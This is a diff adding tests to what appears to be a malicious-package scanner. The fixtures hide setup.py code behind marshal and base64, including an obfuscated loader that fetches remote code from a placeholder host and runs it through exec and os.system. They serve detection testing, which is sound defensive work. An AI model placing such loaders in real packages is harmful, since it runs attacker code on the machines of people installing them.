@@ -79,6 +79,42 @@ def test_marshal_payload_is_read_never_loaded() -> None:
     assert "system" in hit.evidence and hit.severity is Severity.CRITICAL
 
 
+def _marshalled_setup(source: str) -> str:
+    blob = base64.b64encode(marshal.dumps(compile(source, "<x>", "exec"))).decode()
+    return f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{blob}')))\n"
+
+
+def test_marshalled_code_reaching_an_address_is_network_use() -> None:
+    # a network client among the code object's names and an address among its constants
+    source = (
+        "import urllib.request\n"
+        "def fetch():\n"
+        "    return urllib.request.urlopen('https://pastebin.com/raw/abc').read()\n"
+        "fetch()\n"
+    )
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
+    hit = next(f for f in findings(items) if f.code == "PKG007")
+    assert "pastebin.com" in hit.evidence and hit.severity >= Severity.HIGH
+    # the twin: an address among the constants, no network client among the names
+    quiet = "print('see https://pastebin.com/raw/abc for the docs')\n"
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(quiet)}))
+    assert not any(f.code == "PKG007" for f in findings(items))
+
+
+def test_source_carried_by_marshalled_code_is_analysed() -> None:
+    # code kept as a string constant, written to a file and started: analysed as a layer
+    carried = "from urllib.request import urlopen;exec(urlopen('https://x.invalid/p').read())"
+    source = (
+        "import os, sys, tempfile\n"
+        f"CODE = {carried!r}\n"
+        "path = tempfile.mktemp(suffix='.py')\n"
+        "open(path, 'w').write(CODE)\n"
+        "os.system(sys.executable + ' ' + path)\n"
+    )
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": _marshalled_setup(source)}))
+    assert any(f.code == "PKG003" and f.severity >= Severity.HIGH for f in findings(items))
+
+
 def test_builtins_getattr_indirection_resolves() -> None:
     setup = (
         "name = ''.join(map(chr, [115, 121, 115, 116, 101, 109]))\n"
